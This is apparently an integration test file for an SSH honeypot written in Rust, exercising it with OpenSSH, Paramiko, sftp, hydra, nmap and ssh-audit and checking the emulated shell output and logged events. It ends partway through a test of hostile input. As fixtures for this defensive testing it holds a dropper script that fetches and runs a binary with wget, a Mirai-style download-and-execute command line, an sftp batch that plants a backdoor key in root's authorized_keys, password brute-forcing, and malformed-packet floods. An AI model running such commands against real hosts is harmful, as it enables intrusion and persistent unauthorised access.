//! The SSH honeypot driven by real clients through the real binary: the
//! OpenSSH client (with sshpass; exec, an interactive pty session through
//! expect, scp upload), Paramiko, hydra, nmap -sV and ssh-audit compared
//! with a real Debian sshd, plus hostile input.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{Sensor, of_kind};
use serde_json::Value;

const ACCEPT: &str = "[services.ssh]\nfailed_auth_delay_ms = 0\naccept = [{ user = \"root\", password = \"toor\" }]\n";

fn ssh_sensor(config: &str) -> Sensor {
    Sensor::start("ssh", config, tempfile::tempdir().unwrap())
}

/// Options that make the OpenSSH client non-interactive and forgetful.
fn ssh_opts(port: u16) -> Vec<String> {
    [
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "PubkeyAuthentication=no",
        "-o",
        "PreferredAuthentications=password",
        "-o",
        "ConnectTimeout=10",
        "-o",
        "LogLevel=ERROR",
        "-p",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain([port.to_string()])
    .collect()
}

/// `sshpass -p PASSWORD ssh … root@127.0.0.1 CMD`: (exit code, stdout, stderr).
fn ssh_exec(port: u16, password: &str, cmd: &str) -> (i32, String, String) {
    let sshpass = mirage_testkit::require_tool("sshpass");
    mirage_testkit::require_tool("ssh");
    let out = Command::new(sshpass)
        .args(["-p", password, "ssh"])
        .args(ssh_opts(port))
        .args(["root@127.0.0.1", cmd])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn commands(events: &[Value]) -> Vec<String> {
    of_kind(events, "command")
        .iter()
        .map(|e| e["raw"].as_str().unwrap_or("").to_owned())
        .collect()
}

/// OpenSSH with sshpass: a wrong password is refused (and captured with the
/// client version and HASSH), the right one runs an exec command with the
/// emulated output and exit status, and bash's error for an unknown one.
#[test]
fn openssh_exec_with_password_capture() {
    let s = ssh_sensor(ACCEPT);
    // As against a real sshd: the password is refused and asked for again,
    // and sshpass gives up at the second prompt (its exit code 5).
    let (code, _, err) = ssh_exec(s.port(), "wrong", "id");
    assert_eq!(code, 5, "{err}");
    assert!(
        err.contains("Permission denied, please try again."),
        "{err}"
    );
    let (code, out, err) = ssh_exec(s.port(), "toor", "uname -a; id");
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out,
        "Linux srv01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\nuid=0(root) gid=0(root) groups=0(root)\n"
    );
    let (code, _, err) = ssh_exec(s.port(), "toor", "nosuchcmd");
    assert_eq!(code, 127);
    assert_eq!(err, "bash: line 1: nosuchcmd: command not found\n");
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| commands(e).len() >= 3);
    let auth = of_kind(&ev, "auth.attempt");
    let pw: Vec<_> = auth.iter().filter(|e| e["method"] == "password").collect();
    assert_eq!(pw.len(), 3, "{auth:?}");
    assert_eq!(pw[0]["password"], "wrong");
    assert_eq!(pw[0]["result"], "failure");
    assert_eq!(pw[0]["src_ip"], "127.0.0.1");
    assert_eq!(pw[1]["result"], "success");
    let d = &pw[0]["details"];
    assert!(
        d["client_version"]
            .as_str()
            .unwrap()
            .starts_with("SSH-2.0-OpenSSH_"),
        "{d}"
    );
    assert_eq!(d["hassh"].as_str().unwrap().len(), 32);
    assert!(
        d["hassh_algorithms"]
            .as_str()
            .unwrap()
            .contains("curve25519-sha256")
    );
    // The recording is named in the successful attempt and exists.
    let rec = pw[1]["details"]["recording"].as_str().unwrap();
    assert!(s.event_dir().join(rec).exists(), "{rec}");
    assert_eq!(commands(&ev), ["uname -a", "id", "nosuchcmd"]);
}

/// An interactive pty session through expect: banner, prompt, echo,
/// commands and their output, exit; the asciicast file holds it.
#[test]
fn openssh_interactive_pty_session() {
    let expect = mirage_testkit::require_tool("expect");
    mirage_testkit::require_tool("sshpass");
    let s = ssh_sensor(ACCEPT);
    let script = format!(
        r#"set timeout 15
spawn sshpass -p toor ssh -tt {opts} root@127.0.0.1
expect "root@srv01:~# " {{}} timeout {{ exit 2 }}
send "cd /tmp; pwd\r"
expect "/tmp\r\n" {{}} timeout {{ exit 3 }}
expect "root@srv01:/tmp# " {{}} timeout {{ exit 4 }}
send "cat /etc/os-release | grep PRETTY\r"
expect "Debian GNU/Linux 12 (bookworm)" {{}} timeout {{ exit 5 }}
send "foo\r"
expect -- "-bash: foo: command not found" {{}} timeout {{ exit 6 }}
send "exit\r"
expect eof
exit 0
"#,
        opts = ssh_opts(s.port()).join(" ")
    );
    let out = Command::new(expect)
        .arg("-c")
        .arg(&script)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let err = String::from_utf8_lossy(&out.stderr);
    // `expect -c` can exit 0 after a script error; the error text tells.
    assert!(
        out.status.success()
            && !text.contains("while executing")
            && !err.contains("while executing"),
        "expect failed ({:?}):\n{text}\n{err}",
        out.status.code()
    );
    assert!(
        text.contains("The programs included with the Debian GNU/Linux system are free software;"),
        "{text}"
    );
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| commands(e).len() >= 5);
    assert!(commands(&ev).len() >= 5, "{:?}", commands(&ev));
    assert_eq!(
        commands(&ev),
        [
            "cd /tmp",
            "pwd",
            "cat /etc/os-release",
            "grep PRETTY",
            "foo",
            "exit"
        ][..commands(&ev).len().min(6)]
    );
    let auth = of_kind(&ev, "auth.attempt");
    let rec = auth.iter().find(|e| e["result"] == "success").unwrap()["details"]["recording"]
        .as_str()
        .unwrap()
        .to_owned();
    let path = s.event_dir().join(rec);
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut cast = std::fs::read_to_string(&path).unwrap();
    while !cast.contains("logout") && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
        cast = std::fs::read_to_string(&path).unwrap();
    }
    let mut lines = cast.lines();
    let header: Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    assert!(cast.contains("command not found"), "{cast}");
    assert!(lines.all(|l| serde_json::from_str::<Value>(l).is_ok()));
}

/// Paramiko: password login, exec, and an interactive shell with a pty.
#[test]
fn paramiko_exec_and_shell() {
    let py = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.venv/bin/python");
    if !py.exists() {
        panic!("{} missing: run scripts/install-test-deps.sh", py.display());
    }
    let s = ssh_sensor(ACCEPT);
    let code = format!(
        r##"
import paramiko, time, sys
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
try:
    c.connect("127.0.0.1", {port}, "admin", "admin", look_for_keys=False, allow_agent=False)
    print("BAD: wrong password accepted")
except paramiko.AuthenticationException:
    print("denied")
c.connect("127.0.0.1", {port}, "root", "toor", look_for_keys=False, allow_agent=False)
print("server", c.get_transport().remote_version)
i, o, e = c.exec_command("whoami; nproc")
print("exec", repr(o.read().decode()), o.channel.recv_exit_status())
ch = c.invoke_shell()
buf = b""
def until(s):
    global buf
    end = time.time() + 10
    while s not in buf and time.time() < end:
        if ch.recv_ready(): buf += ch.recv(4096)
        else: time.sleep(0.05)
    return s in buf
until(b"# ")
ch.send("echo hello-from-paramiko > /tmp/p.txt; cat /tmp/p.txt\n")
print("shell", until(b"hello-from-paramiko\r\n"))
ch.send("exit\n")
c.close()
"##,
        port = s.port()
    );
    let out = Command::new(py).arg("-c").arg(code).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("denied\n"), "{text}");
    assert!(
        text.contains("server SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10"),
        "{text}"
    );
    assert!(text.contains("exec 'root\\n2\\n' 0"), "{text}");
    assert!(text.contains("shell True"), "{text}");
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        !of_kind(e, "payload").is_empty()
    });
    let auth = of_kind(&ev, "auth.attempt");
    assert!(
        auth.iter().any(|e| e["username"] == "admin"
            && e["password"] == "admin"
            && e["result"] == "failure")
    );
    assert!(auth.iter().any(|e| {
        e["details"]["client_version"]
            .as_str()
            .unwrap_or("")
            .contains("paramiko")
    }));
    let p = of_kind(&ev, "payload");
    let stored = p[0]["stored"].as_str().unwrap();
    assert_eq!(
        std::fs::read(s.event_dir().join(stored)).unwrap(),
        b"hello-from-paramiko\n"
    );
}

/// `scp -O` (the classic protocol bots use) uploads a file: it lands in the
/// quarantine under its sha256 and is reported as a payload.
#[test]
fn scp_upload_lands_in_quarantine() {
    let sshpass = mirage_testkit::require_tool("sshpass");
    mirage_testkit::require_tool("scp");
    let s = ssh_sensor(ACCEPT);
    let src = s.dir.path().join("dropper.sh");
    let body =
        b"#!/bin/sh\nwget http://203.0.113.9/bins/x86 -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x\n";
    std::fs::write(&src, body).unwrap();
    let mut opts = ssh_opts(s.port());
    let p = opts.iter().position(|o| o == "-p").unwrap();
    opts[p] = "-P".into();
    let out = Command::new(sshpass)
        .args(["-p", "toor", "scp", "-O"])
        .args(&opts)
        .arg(&src)
        .arg("root@127.0.0.1:/tmp/")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let sha = mirage_core::PayloadData::new(body, 0).sha256;
    let stored = s.event_dir().join("quarantine").join(&sha);
    assert_eq!(std::fs::read(&stored).unwrap(), body);
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        common::techniques(e).contains(&"ssh.scp_upload".to_string())
    });
    let p = of_kind(&ev, "payload");
    assert_eq!(p[0]["sha256"], sha.as_str());
    assert_eq!(p[0]["stored"], format!("quarantine/{sha}"));
    assert!(common::techniques(&ev).contains(&"ssh.scp_upload".to_string()));
    // The uploaded file is visible to the session's shell afterwards? Each
    // connection has its own filesystem, so a new one does not see it.
}

/// `ssh_opts` for scp and sftp (`-P` for the port).
fn copy_opts(port: u16) -> Vec<String> {
    let mut opts = ssh_opts(port);
    let p = opts.iter().position(|o| o == "-p").unwrap();
    opts[p] = "-P".into();
    opts
}

/// Modern scp (no `-O`: the SFTP subsystem) uploads a file that lands in
/// the quarantine by sha256, with an `ssh.sftp_upload` event; a file over
/// one SFTP write (100 KiB, several 32 KiB WRITEs) arrives whole.
#[test]
fn scp_default_sftp_mode_upload_lands_in_quarantine() {
    let sshpass = mirage_testkit::require_tool("sshpass");
    mirage_testkit::require_tool("scp");
    let s = ssh_sensor(ACCEPT);
    let src = s.dir.path().join("miner.bin");
    let body: Vec<u8> = (0..100 * 1024u32).map(|i| (i * 7 % 251) as u8).collect();
    std::fs::write(&src, &body).unwrap();
    let out = Command::new(sshpass)
        .args(["-p", "toor", "scp"])
        .args(copy_opts(s.port()))
        .arg(&src)
        .arg("root@127.0.0.1:/tmp/")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let sha = mirage_core::PayloadData::new(&body, 0).sha256;
    assert_eq!(
        std::fs::read(s.event_dir().join("quarantine").join(&sha)).unwrap(),
        body
    );
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        common::techniques(e).contains(&"ssh.sftp_upload".to_string())
    });
    let up = of_kind(&ev, "attack")
        .into_iter()
        .find(|a| a["technique"] == "ssh.sftp_upload")
        .unwrap();
    assert_eq!(up["evidence"]["path"], "/tmp/miner.bin");
    assert_eq!(up["evidence"]["sha256"], sha.as_str());
    assert_eq!(up["evidence"]["len"], body.len());
    let sub = of_kind(&ev, "command");
    assert!(
        sub.iter()
            .any(|c| c["command"] == "subsystem" && c["raw"] == "subsystem sftp")
    );
    assert!(
        sub.iter().any(|c| c["raw"] == "sftp open /tmp/miner.bin"),
        "{sub:?}"
    );
}

/// The sftp client in batch mode: `ls -l` of /etc, `get` of /etc/passwd
/// (the emulated one), `put` into the quarantine, mkdir/rename/rm/rmdir,
/// and every request recorded; stderr free of errors a real server would
/// not cause.
#[test]
fn sftp_client_batch_session() {
    let sshpass = mirage_testkit::require_tool("sshpass");
    mirage_testkit::require_tool("sftp");
    let s = ssh_sensor(ACCEPT);
    let dir = s.dir.path();
    let payload = b"ssh-rsa AAAAB3NzaC1yc2E backdoor@x\n";
    std::fs::write(dir.join("key.pub"), payload).unwrap();
    let got = dir.join("got.passwd");
    let batch = dir.join("batch");
    std::fs::write(
        &batch,
        format!(
            "ls -l /etc\nget /etc/passwd {}\nput {} /root/.ssh/authorized_keys\nmkdir /tmp/d\nrename /root/.ssh/authorized_keys /tmp/d/k\nls /tmp/d\nrm /tmp/d/k\nrmdir /tmp/d\nls /nonexistent\n",
            got.display(),
            dir.join("key.pub").display()
        ),
    )
    .unwrap();
    let out = Command::new(sshpass)
        .args(["-p", "toor", "sftp", "-oBatchMode=no", "-b"])
        .arg(&batch)
        .args(copy_opts(s.port()))
        .arg("root@127.0.0.1")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    // The last command fails, as on a real server, and ends the batch.
    assert!(!out.status.success(), "{stdout}");
    assert!(
        stderr.contains("Can't ls: \"/nonexistent\" not found"),
        "{stderr}"
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stdout.contains(" root     root         1011 Nov 22  2024 /etc/passwd"),
        "{stdout}"
    );
    assert!(stdout.contains("/tmp/d/k"), "{stdout}");
    let passwd = std::fs::read_to_string(&got).unwrap();
    assert!(
        passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"),
        "{passwd}"
    );
    let sha = mirage_core::PayloadData::new(payload, 0).sha256;
    assert_eq!(
        std::fs::read(s.event_dir().join("quarantine").join(&sha)).unwrap(),
        payload
    );
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        commands(e).iter().any(|c| c == "sftp rmdir /tmp/d")
    });
    let raws: Vec<String> = of_kind(&ev, "command")
        .iter()
        .filter(|c| c["command"] == "sftp")
        .map(|c| c["raw"].as_str().unwrap().to_owned())
        .collect();
    for want in [
        "sftp init",
        "sftp opendir /etc",
        "sftp open /etc/passwd",
        "sftp open /root/.ssh/authorized_keys",
        "sftp mkdir /tmp/d",
        "sftp posix-rename@openssh.com /root/.ssh/authorized_keys /tmp/d/k",
        "sftp remove /tmp/d/k",
        "sftp rmdir /tmp/d",
    ] {
        assert!(raws.iter().any(|r| r == want), "{want} not in {raws:?}");
    }
    let t = common::techniques(&ev);
    assert!(t.contains(&"ssh.sftp_upload".to_string()), "{t:?}");
    assert!(t.contains(&"shell.persistence".to_string()), "{t:?}");
}

/// A hostile SFTP peer (an oversized packet, then more channels than
/// handles allow) ends only its own subsystem, with a protocol.error.
#[test]
fn sftp_rejects_oversized_packets() {
    let python = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.venv/bin/python");
    assert!(
        python.exists(),
        "{} missing: run scripts/install-test-deps.sh",
        python.display()
    );
    let s = ssh_sensor(ACCEPT);
    let script = format!(
        r#"
import paramiko, struct, sys
t = paramiko.Transport(("127.0.0.1", {port}))
t.connect(username="root", password="toor")
ch = t.open_session()
ch.invoke_subsystem("sftp")
ch.sendall(struct.pack(">IBI", 5, 1, 3))
n = struct.unpack(">I", ch.recv(4))[0]
v = ch.recv(n)
assert v[0] == 2 and v[1:5] == struct.pack(">I", 3), v
ch.sendall(struct.pack(">I", 10_000_000) + b"" * 1000)
ch.settimeout(5)
while ch.recv(1024):
    pass
assert ch.recv_exit_status() == 1
# The connection still works.
c2 = t.open_session()
c2.exec_command("echo ok")
assert c2.recv(100) == b"ok\n"
print("done")
"#,
        port = s.port()
    );
    let out = Command::new(python)
        .arg("-c")
        .arg(&script)
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("done"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        !of_kind(e, "protocol.error").is_empty()
    });
    let pe = of_kind(&ev, "protocol.error");
    assert!(
        pe[0]["error"].as_str().unwrap().contains("over the limit"),
        "{pe:?}"
    );
}

/// Host keys are generated once and reused by the next start.
#[test]
fn host_keys_persist_across_restarts() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("keep");
    std::fs::create_dir(&path).unwrap();
    let mut s = Sensor::start("ssh", ACCEPT, dir);
    let keyfile = s.event_dir().join("ssh/ssh_host_ed25519_key");
    let first = std::fs::read(&keyfile).unwrap();
    let scan = |port: u16| {
        let out = Command::new(mirage_testkit::require_tool("ssh-keyscan"))
            .args(["-p", &port.to_string(), "-t", "ed25519", "127.0.0.1"])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout)
            .split_whitespace()
            .last()
            .unwrap_or("")
            .to_owned()
    };
    let k1 = scan(s.port());
    assert!(!k1.is_empty());
    s.stop();
    let dir = std::mem::replace(&mut s.dir, tempfile::tempdir().unwrap());
    drop(s);
    let s2 = Sensor::start("ssh", ACCEPT, dir);
    assert_eq!(std::fs::read(&keyfile).unwrap(), first);
    assert_eq!(scan(s2.port()), k1);
    assert_eq!(
        std::fs::metadata(&keyfile)
            .map(|m| {
                use std::os::unix::fs::PermissionsExt;
                m.permissions().mode() & 0o777
            })
            .unwrap(),
        0o600
    );
}

/// A Mirai-like session over exec: busybox checks, cpuinfo, a download
/// that is never fetched, chmod and run; outputs as on a real host and the
/// techniques tagged.
#[test]
fn mirai_like_replay() {
    let s = ssh_sensor(ACCEPT);
    let (_, out, err) = ssh_exec(
        s.port(),
        "toor",
        "/bin/busybox ECCHI; cat /proc/cpuinfo | grep -c processor",
    );
    assert_eq!(err, "ECCHI: applet not found\n");
    assert_eq!(out, "2\n");
    let (code, out, err) = ssh_exec(
        s.port(),
        "toor",
        "cd /tmp; wget http://x/y.sh; chmod +x y.sh; ./y.sh",
    );
    assert_eq!(out, "");
    assert!(
        err.contains("wget: unable to resolve host address"),
        "{err}"
    );
    assert!(
        err.contains("chmod: cannot access 'y.sh': No such file or directory"),
        "{err}"
    );
    assert!(
        err.ends_with("bash: line 1: ./y.sh: No such file or directory\n"),
        "{err}"
    );
    assert_eq!(code, 127);
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        common::techniques(e).len() >= 2
    });
    let t = common::techniques(&ev);
    assert!(t.contains(&"shell.busybox_probe".to_string()), "{t:?}");
    let dl: Vec<_> = of_kind(&ev, "attack")
        .into_iter()
        .filter(|e| e["technique"] == "shell.download")
        .collect();
    assert_eq!(dl[0]["evidence"]["url"], "http://x/y.sh");
    assert!(commands(&ev).contains(&"wget http://x/y.sh".to_string()));
}

/// hydra with 30 passwords: every attempt is an auth.attempt from 127.0.0.1.
#[test]
fn hydra_30_passwords_all_recorded() {
    let hydra = mirage_testkit::require_tool("hydra");
    let s = ssh_sensor("[services.ssh]\nfailed_auth_delay_ms = 0\n");
    let list = s.dir.path().join("pw.txt");
    let pws: Vec<String> = (0..30).map(|i| format!("pass{i:02}")).collect();
    std::fs::write(&list, pws.join("\n") + "\n").unwrap();
    let out = Command::new(hydra)
        .args(["-l", "root", "-P"])
        .arg(&list)
        .args([
            "-t",
            "4",
            "-I",
            "-s",
            &s.port().to_string(),
            "127.0.0.1",
            "ssh",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("0 valid password"), "{text}");
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        of_kind(e, "auth.attempt")
            .iter()
            .filter(|a| a["method"] == "password")
            .count()
            >= 30
    });
    let got: std::collections::BTreeSet<String> = of_kind(&ev, "auth.attempt")
        .iter()
        .filter(|a| a["method"] == "password")
        .inspect(|a| assert_eq!(a["src_ip"], "127.0.0.1"))
        .map(|a| a["password"].as_str().unwrap().to_owned())
        .collect();
    for p in &pws {
        assert!(got.contains(p), "{p} missing from {got:?}");
    }
}

/// Accept-after-N: the third attempt from a source gets in, whatever it is.
#[test]
fn accept_after_failures_policy() {
    let s = ssh_sensor("[services.ssh]\nfailed_auth_delay_ms = 0\naccept_after_failures = 2\n");
    // sshpass answers one prompt per run: one attempt each.
    assert_eq!(ssh_exec(s.port(), "a1", "true").0, 5);
    assert_eq!(ssh_exec(s.port(), "a2", "true").0, 5);
    let (code, out, _) = ssh_exec(s.port(), "anything", "whoami");
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| !commands(e).is_empty());
    let auth = of_kind(&ev, "auth.attempt");
    assert!(auth.iter().any(|a| a["result"] == "success"), "{auth:?}");
    assert_eq!((code, out.as_str()), (0, "root\n"));
}

/// nmap -sV names OpenSSH with the configured version.
#[test]
fn nmap_sees_debian_openssh() {
    let s = ssh_sensor(ACCEPT);
    let text = common::nmap_sv(None, s.port(), &[]);
    assert!(text.contains("OpenSSH 9.2p1 Debian 2+deb12u10"), "{text}");
    assert!(!text.to_lowercase().contains("honeypot"), "{text}");
}

/// `ssh-audit -j` against one port: its JSON report.
fn audit(port: u16) -> serde_json::Value {
    let tool = mirage_testkit::require_tool("ssh-audit");
    let out = Command::new(tool)
        .args(["-j", "-p", &port.to_string(), "127.0.0.1"])
        .output()
        .unwrap();
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "ssh-audit -j on {port}: {e}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// A real Debian sshd on a high port with its own keys and config.
struct RealSshd {
    child: std::process::Child,
    port: u16,
    _dir: tempfile::TempDir,
}

impl Drop for RealSshd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn real_sshd() -> RealSshd {
    let sshd = mirage_testkit::require_tool("/usr/sbin/sshd");
    let dir = tempfile::tempdir().unwrap();
    let mut keys = String::new();
    for t in ["rsa", "ecdsa", "ed25519"] {
        let k = dir.path().join(format!("ssh_host_{t}_key"));
        let st = Command::new(mirage_testkit::require_tool("ssh-keygen"))
            .args(["-q", "-N", "", "-t", t, "-f"])
            .arg(&k)
            .status()
            .unwrap();
        assert!(st.success());
        keys.push_str(&format!("HostKey {}\n", k.display()));
    }
    let port = mirage_testkit::free_port();
    let cfg = dir.path().join("sshd_config");
    std::fs::write(
        &cfg,
        format!("Port {port}\nListenAddress 127.0.0.1\n{keys}PidFile none\nUsePAM no\nKbdInteractiveAuthentication no\n"),
    )
    .unwrap();
    std::fs::create_dir_all("/run/sshd").ok();
    let child = Command::new(sshd)
        .args(["-D", "-e", "-f"])
        .arg(&cfg)
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    mirage_testkit::wait_for_port(
        format!("127.0.0.1:{port}").parse().unwrap(),
        Duration::from_secs(10),
    );
    RealSshd {
        child,
        port,
        _dir: dir,
    }
}

/// ssh-audit against the honeypot and a real Debian 12 sshd, the honeypot
/// given the real one's banner: the two reports are the same field by field
/// (banner, compression, and every key exchange, host key, cipher and MAC
/// entry in order with ssh-audit's notes and key sizes). Only the host key
/// fingerprints differ, being other keys, so those compare as (key type,
/// hash) pairs.
#[test]
fn ssh_audit_matches_real_debian_sshd() {
    let real = real_sshd();
    let theirs = audit(real.port);
    let banner = theirs["banner"]["raw"]
        .as_str()
        .unwrap_or_else(|| panic!("no banner from the real sshd: {theirs}"));
    let s = ssh_sensor(&format!("{ACCEPT}banner = {banner:?}\n"));
    let ours = audit(s.port());
    for field in ["banner", "compression", "kex", "key", "enc", "mac"] {
        assert_eq!(
            ours[field], theirs[field],
            "{field}: ours {} vs sshd {}",
            ours[field], theirs[field]
        );
    }
    let prints = |v: &serde_json::Value| -> Vec<(String, String)> {
        v["fingerprints"]
            .as_array()
            .unwrap_or_else(|| panic!("no fingerprints: {v}"))
            .iter()
            .map(|f| (f["hostkey"].to_string(), f["hash_alg"].to_string()))
            .collect()
    };
    assert_eq!(prints(&ours), prints(&theirs));
}

/// The algorithms the vendored russh adds (vendor/russh/PATCH.md) against
/// the real OpenSSH client: a login that runs a command over each
/// sntrup761 name, and over each UMAC (the ETM and the classic forms) with
/// a non-AEAD cipher, so the MAC is the one in use.
#[test]
fn openssh_client_over_sntrup761_and_umac() {
    let s = ssh_sensor(ACCEPT);
    let sshpass = mirage_testkit::require_tool("sshpass");
    let mut cases: Vec<Vec<String>> = Vec::new();
    for kex in [
        "sntrup761x25519-sha512@openssh.com",
        "sntrup761x25519-sha512",
    ] {
        cases.push(vec!["-o".into(), format!("KexAlgorithms={kex}")]);
    }
    for mac in [
        "umac-64-etm@openssh.com",
        "umac-128-etm@openssh.com",
        "umac-64@openssh.com",
        "umac-128@openssh.com",
    ] {
        cases.push(vec![
            "-c".into(),
            "aes128-ctr".into(),
            "-o".into(),
            format!("MACs={mac}"),
        ]);
    }
    for case in &cases {
        let out = Command::new(&sshpass)
            .args(["-p", "toor", "ssh", "-v"])
            .args(ssh_opts(s.port()))
            .args(case)
            .args(["root@127.0.0.1", "echo negotiated; id -u"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            "negotiated\n0\n",
            "{case:?}: {err}"
        );
        // The client's debug log names what was agreed.
        let wanted = case.last().unwrap().split('=').nth(1).unwrap();
        assert!(
            err.lines().any(
                |l| l.contains(wanted) && (l.contains("kex: algorithm:") || l.contains("MAC:"))
            ),
            "{case:?} not negotiated: {err}"
        );
    }
}

/// MaxAuthTries as sshd counts it: six passwords on one connection (the
/// client's "none" probe does not count), the sixth still received and
/// recorded, then "Too many authentication failures". (russh's own cap
/// counted "none" and dropped the sixth password unread.) Unlike sshd, the
/// sixth is answered with a failure before the disconnect, so the client
/// may prompt a seventh time (recorded if it gets sent in between).
#[test]
fn six_passwords_per_connection_then_disconnect() {
    let s = ssh_sensor(ACCEPT);
    let script = format!(
        r#"set timeout 20
spawn ssh -p {port} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=10 -o PreferredAuthentications=password -o PubkeyAuthentication=no root@127.0.0.1
set n 0
expect {{
  -re "password: $" {{ incr n; send "bad-$n\r"; exp_continue }}
  "Too many authentication failures" {{ puts "\nTOO_MANY $n" }}
  timeout {{ puts "\nTIMEOUT $n" }}
  eof {{ puts "\nEOF $n" }}
}}
"#,
        port = s.port()
    );
    let out = Command::new("expect")
        .arg("-c")
        .arg(&script)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let sent: usize = text
        .split("TOO_MANY ")
        .nth(1)
        .and_then(|t| t.trim().parse().ok())
        .unwrap_or_else(|| panic!("no disconnect: {text}"));
    assert!((6..=7).contains(&sent), "{text}");
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        of_kind(e, "auth.attempt").len() >= 6 && !of_kind(e, "session.close").is_empty()
    });
    let recorded: Vec<&str> = of_kind(&ev, "auth.attempt")
        .iter()
        .map(|e| e["password"].as_str().unwrap())
        .collect();
    // The six refused ones, in order; a seventh prompt's answer is
    // recorded only if the client sent it before reading the disconnect.
    let expected: Vec<String> = (1..=sent).map(|i| format!("bad-{i}")).collect();
    assert!(
        recorded.len() >= 6
            && expected.starts_with(&recorded.iter().map(|r| r.to_string()).collect::<Vec<_>>()),
        "{recorded:?} / {text}"
    );
    let close = &of_kind(&ev, "session.close")[0];
    assert_eq!(close["reason"], "server_closed", "{close}");
}

/// Garbage, malformed packets, 2,000 concurrent half-open handshakes (the
/// issue's scale) and a slow-drip client (one byte per 100 ms of its
/// version line and KEXINIT): the sensor stays responsive (a real login
/// takes under 10 s) and its memory bounded: at most 4 KiB per idle
/// connection that has not sent its version line (the issue's target;
/// measured about 2.5 KiB: the banner is sent at once, russh starts on the
/// client's first bytes; 34 KiB when russh started at once).
#[test]
fn hostile_input_leaves_sensor_responsive() {
    mirage_net::raise_fd_limit().unwrap();
    let s = ssh_sensor(&format!(
        "{ACCEPT}[limits]\nmax_connections_per_ip = 4000\n"
    ));
    let addr = s.addr;
    let (rss_start, _) = s.rss_kib();
    // Not SSH at all.
    let mut c = TcpStream::connect(addr).unwrap();
    c.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    // A version line then a KEXINIT with a name-list running past the packet.
    let mut m = TcpStream::connect(addr).unwrap();
    m.write_all(b"SSH-2.0-evil\r\n").unwrap();
    m.write_all(&[0, 0, 0, 40, 4, 20]).unwrap();
    m.write_all(&[0u8; 16]).unwrap();
    m.write_all(&[255, 255, 255, 255]).unwrap();
    m.write_all(&[0u8; 20]).unwrap();
    // A huge packet length.
    let mut h = TcpStream::connect(addr).unwrap();
    h.write_all(b"SSH-2.0-evil\r\n\xff\xff\xff\xff\x00\x00")
        .unwrap();
    // Half-open handshakes: connect, say nothing.
    let mut idle = Vec::new();
    for _ in 0..2000 {
        match TcpStream::connect(addr) {
            Ok(t) => idle.push(t),
            Err(e) => panic!("connection {} refused: {e}", idle.len()),
        }
    }
    // A slow-drip client: its version line and the start of a KEXINIT,
    // one byte every 100 ms, while the real client logs in.
    let drip = std::thread::spawn(move || {
        let mut sent = 0;
        if let Ok(mut d) = TcpStream::connect(addr) {
            let mut bytes = b"SSH-2.0-drip\r\n".to_vec();
            bytes.extend_from_slice(&[0, 0, 1, 0x2c, 8, 20]);
            bytes.extend_from_slice(&[0x5a; 16]);
            for b in bytes {
                if d.write_all(&[b]).is_err() {
                    break;
                }
                sent += 1;
                std::thread::sleep(Duration::from_millis(100));
            }
        }
        sent
    });
    // Every half-open connection got its banner.
    for t in idle.iter_mut().step_by(100) {
